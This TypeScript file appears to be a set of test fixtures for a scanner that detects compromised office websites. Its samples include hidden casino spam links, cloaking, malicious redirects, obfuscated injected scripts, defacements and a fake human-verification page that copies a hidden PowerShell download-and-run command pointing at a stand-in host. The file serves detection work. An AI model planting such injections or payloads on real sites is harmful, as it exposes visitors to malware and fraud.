import { officePage, officeSite } from '../office.ts'
import type { InfectedSample, SampleAnswer } from '../sample.ts'

const SHOPS = ['shoes-a', 'bags-b', 'watch-c', 'glasses-d']
  .map((name) => `<a href="https://${name}.example/">${name} outlet</a>`)
  .join(' ')
const CASINO = '<a href="https://casino-sample.example/">สล็อตเว็บตรง แตกง่าย</a>'
const css = (body: string): SampleAnswer => ({ type: 'text/css', body })
const xml = (body: string): SampleAnswer => ({ type: 'application/xml', body })
const base64 = (text: string) => Buffer.from(text).toString('base64')
const codes = (text: string) => Array.from(text, (letter) => letter.charCodeAt(0)).join(',')
const urls = (count: number, slug: string) =>
  Array.from({ length: count }, (_, i) => `<url><loc>http://www.thung-sample.go.th/${slug}-${i}/</loc></url>`).join('')
const script = (id: string, code: string, expected: string): InfectedSample => ({
  id,
  before: officeSite(),
  accepted: true,
  site: officeSite(officePage({ after: `<script>${code}</script>` })),
  expected: [expected],
})

/** Places and programs that intruders use on the websites of offices. */
export const FIELD_INFECTED_TRICKS: readonly InfectedSample[] = [
  {
    id: 'hidden-by-the-sheet-of-a-theme',
    site: officeSite(
      officePage({
        head: '<link rel="stylesheet" href="/wp-content/themes/office/style.css?ver=6.4">',
        after: `<div class="wp-block-x9">${SHOPS}</div>`,
      }),
      (path) =>
        path.startsWith('/wp-content/themes/office/style.css')
          ? css('body{color:#333}.wp-block-x9{position:absolute;left:-9999px}')
          : undefined,
    ),
    expected: ['hidden-links critical'],
  },
  {
    id: 'hidden-by-what-stands-around',
    site: officeSite(
      officePage({
        head: '<link href="/css/site.css" rel="stylesheet">',
        after: `<div class="credit"><span>${SHOPS}</span></div>`,
      }),
      (path) => (path === '/css/site.css' ? css('div.credit > span,.none a{font-size:0;line-height:0}') : undefined),
    ),
    expected: ['hidden-links critical'],
  },
  {
    id: 'a-marquee-of-one-pixel',
    site: officeSite(officePage({ after: `<marquee width="1" height="1" scrollamount="9000">${SHOPS}</marquee>` })),
    expected: ['hidden-links critical'],
  },
  {
    id: 'hidden-by-the-script-after-it',
    site: officeSite(
      officePage({
        after: `<div id="qx1">${SHOPS}</div><script>document.getElementById("qx1").style.display="none"</script>`,
      }),
    ),
    expected: ['hidden-links warning'],
  },
  {
    id: 'posts-in-the-feed',
    before: officeSite(),
    accepted: true,
    looks: 8,
    site: officeSite(officePage(), (path) =>
      path.replace(/\/$/, '') === '/feed'
        ? {
            type: 'application/rss+xml',
            body: `<rss version="2.0"><channel><title>อบต.</title>${Array.from({ length: 10 }, (_, i) => `<item><title>Slot Gacor Hari Ini ${i}</title><link>http://www.thung-sample.go.th/?p=${900 + i}</link><description>Situs judi slot online terpercaya maxwin</description></item>`).join('')}</channel></rss>`,
          }
        : undefined,
    ),
    expected: ['foreign-pages critical'],
  },
  {
    id: 'a-list-of-sitemaps',
    looks: 8,
    site: officeSite(officePage(), (path) =>
      path === '/sitemap.xml'
        ? xml(
            '<sitemapindex><sitemap><loc>http://www.thung-sample.go.th/page-sitemap.xml</loc></sitemap><sitemap><loc>http://www.thung-sample.go.th/post-sitemap9.xml</loc></sitemap></sitemapindex>',
          )
        : path === '/page-sitemap.xml'
          ? xml(`<urlset>${urls(5, 'news')}</urlset>`)
          : path === '/post-sitemap9.xml'
            ? xml(`<urlset>${urls(60, 'slot-gacor-maxwin')}</urlset>`)
            : undefined,
    ),
    expected: ['foreign-pages critical'],
  },
  {
    id: 'a-sitemap-that-robots-names',
    looks: 8,
    site: officeSite(officePage(), (path) =>
      path === '/robots.txt'
        ? { type: 'text/plain', body: 'User-agent: *\nSitemap: http://www.thung-sample.go.th/sm/g1.xml\n' }
        : path === '/sm/g1.xml'
          ? xml(`<urlset>${urls(40, 'situs-judi-togel')}</urlset>`)
          : undefined,
    ),
    expected: ['foreign-pages critical'],
  },
  {
    id: 'telephones-sent-away',
    before: officeSite(),
    accepted: true,
    looks: 4,
    site: officeSite(officePage(), (path, reader) =>
      path === '/' && reader === 'mobile' ? { status: 302, location: 'http://go.win-sample.example/m' } : undefined,
    ),
    expected: ['foreign-redirect critical'],
  },
  {
    id: 'cloaked-for-bing',
    looks: 4,
    site: officeSite(officePage(), (path, reader) =>
      path === '/' && reader === 'bing' ? officePage({ main: `<p>${CASINO.repeat(3)}</p>` }) : undefined,
    ),
    expected: ['cloaking critical'],
  },
  {
    id: 'pages-below-send-away-who-comes-from-search',
    before: officeSite(),
    accepted: true,
    looks: 24,
    site: officeSite(officePage(), (path, reader) =>
      path === '/news' && (reader === 'search' || reader === 'mobile')
        ? { status: 302, location: 'http://win.casino-sample.example/' }
        : undefined,
    ),
    expected: ['foreign-redirect critical'],
  },
  {
    id: 'every-missing-page-sends-away',
    before: officeSite(),
    accepted: true,
    looks: 12,
    site: (path, reader) =>
      officeSite()(path, reader) ??
      (/\.(?:xml|txt)$/.test(path)
        ? undefined
        : {
            status: 404,
            body: '<html><title>404</title><script>window.location.replace("https://go.win-sample.example/?k=1")</script></html>',
          }),
    expected: ['foreign-redirect critical'],
  },
  script(
    'an-address-in-pieces',
    "var u='htt'+'ps://go.win'+'-sample.exa'+'mple/';setTimeout(function(){top.location=u},1500)",
    'foreign-redirect critical',
  ),
  script(
    'an-address-in-a-variable',
    `var a="${base64('https://cdn.stat-sample.example/s.js')}";var s=document.createElement("script");s.async=1;s.src=window["at"+"ob"](a);document.head.appendChild(s)`,
    'malicious-script critical',
  ),
  script(
    'character-codes',
    `eval(String.fromCharCode(${codes('document.location.href="https://go.win-sample.example/x"')}))`,
    'foreign-redirect critical',
  ),
  {
    id: 'a-false-proof-of-being-human',
    before: officeSite(),
    accepted: true,
    site: officeSite(
      officePage({
        after:
          '<div id="cf-v" style="position:fixed;inset:0;background:#fff"><h2>Verify you are human</h2><p>Press Windows Button + R, press CTRL + V, then press Enter</p></div><script>navigator.clipboard.writeText("powershell -w hidden -c \\"iex (iwr https://cf-check.example/v)\\"")</script>',
      }),
    ),
    expected: ['malicious-script critical'],
  },
  {
    id: 'a-frame-in-a-hidden-box',
    before: officeSite(),
    accepted: true,
    site: officeSite(
      officePage({
        after:
          '<div style="visibility:hidden;height:0"><iframe src="https://load.stat-sample.example/"></iframe></div>',
      }),
    ),
    expected: ['malicious-script critical'],
  },
  {
    id: 'a-picture-in-place-of-the-site',
    before: officeSite(),
    accepted: true,
    site: officeSite(
      '<html><head><title>./Sample7</title></head><body bgcolor="black"><center><img src="https://i.img-sample.example/skull.jpg"></center><audio src="https://i.img-sample.example/a.mp3" autoplay></audio></body></html>',
    ),
    expected: ['defaced critical'],
  },
  {
    id: 'greetings-of-a-crew',
    site: officeSite(
      '<html><head><title>Touched By Sample7</title></head><body><h1>Touched By Sample7 - Cyber Sample Team</h1><p>Hello admin, your security is zero. Patch your system!</p><p>Greetz to: all members</p></body></html>',
    ),
    expected: ['defaced critical'],
  },
  {
    id: 'unpaid-bill-in-thai',
    site: officeSite(
      '<html><head><title>แจ้งเตือน</title></head><body><h2>เว็บไซต์นี้ปิดให้บริการชั่วคราว</h2><p>กรุณาติดต่อฝ่ายบัญชีเพื่อชำระค่าบริการเว็บโฮสติ้ง โทร 02-000-0000</p></body></html>',
    ),
    expected: ['suspended critical'],
  },
  {
    id: 'page-of-a-thai-registrar',
    site: officeSite(
      '<html><head><title>thung-sample.go.th</title></head><body><h1>ยินดีต้อนรับสู่ thung-sample.go.th</h1><p>ชื่อโดเมนนี้ได้รับการจดทะเบียนผ่านบริษัท โดเมนตัวอย่าง จำกัด</p><p>จดโดเมน เช่าโฮสติ้ง ราคาถูก</p></body></html>',
    ),
    expected: ['parked critical'],
  },
  {
    id: 'default-page-of-a-panel',
    before: officeSite(),
    accepted: true,
    site: officeSite(
      '<html><head><title>Default Web Site Page</title></head><body><h1>SORRY!</h1><p>If you are the owner of this website, please contact your hosting provider: webmaster@thung-sample.go.th</p></body></html>',
    ),
    expected: ['parked critical'],
  },
]
